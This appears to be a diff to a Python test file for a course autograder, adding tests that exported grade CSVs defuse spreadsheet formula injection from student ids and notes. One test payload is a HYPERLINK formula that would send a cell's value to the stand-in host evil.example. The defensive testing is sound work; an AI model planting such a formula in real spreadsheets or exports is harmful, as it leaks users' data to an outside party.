@@ -1,6 +1,12 @@
 """What a student's code can put into a message the grader shows: printable, one line."""
 
+import csv
+
+from backprop_ninja.classroom import Course, autograde_class, export_class
+from backprop_ninja.classroom.lms import write_canvas_csv
+from backprop_ninja.classroom.report import Row, write_notebook_csv
 from backprop_ninja.classroom.status import FAILED, GRADED, NotebookResult
+from backprop_ninja.course import NOTEBOOKS
 from backprop_ninja.text import one_line, printable
 
 
@@ -15,3 +21,38 @@ def test_notes_and_reasons_reach_the_table_printable():
     failed = NotebookResult("nb", FAILED, reason="bad \x1b[31mred")
     assert graded.messages() == ["cleared", "t: points withdrawn — bell"]
     assert failed.messages() == ["NOT GRADED (0 points): bad red"]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"grades")'
+
+
+def test_no_cell_of_the_grade_csvs_is_read_as_a_formula(tmp_path):
+    """A student id (a hub username, an LMS login) is the student's own text: opened in a
+    spreadsheet, a CSV cell starting with = would run as a formula."""
+    row = Row(
+        FORMULA,
+        points={nb: 1.0 for nb in NOTEBOOKS},
+        max_points={nb: 5.0 for nb in NOTEBOOKS},
+        states={nb: GRADED for nb in NOTEBOOKS},
+        notes={nb: ["@SUM(1+1)"] for nb in NOTEBOOKS},
+    )
+    by_notebook = write_notebook_csv([row], tmp_path / "by_notebook.csv")
+    canvas = write_canvas_csv(tmp_path / "canvas.csv", {FORMULA: 4.0}, 20.0, {}, "backprop_ninja")
+    for path in (by_notebook, canvas):
+        with open(path, newline="", encoding="utf-8") as handle:
+            cells = [cell for line in csv.reader(handle) for cell in line]
+        assert "'" + FORMULA in cells
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+
+
+def test_a_student_id_that_is_a_formula_stays_text_in_every_export(course_root):
+    """The real export, nbgrader's grades.csv included, for a class with such a student."""
+    course = Course.load(root=course_root)
+    (course.submitted / "=1+2" / "backprop_ninja").mkdir(parents=True)  # nothing submitted
+    autograde_class(course, workers=1, progress=False)
+    export_class(course)
+    for path in (course.grades_csv, course.notebook_grades_csv, course.canvas_csv):
+        with open(path, newline="", encoding="utf-8") as handle:
+            cells = [cell for line in csv.reader(handle) for cell in line]
+        assert "'=1+2" in cells, path.name
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], path.name
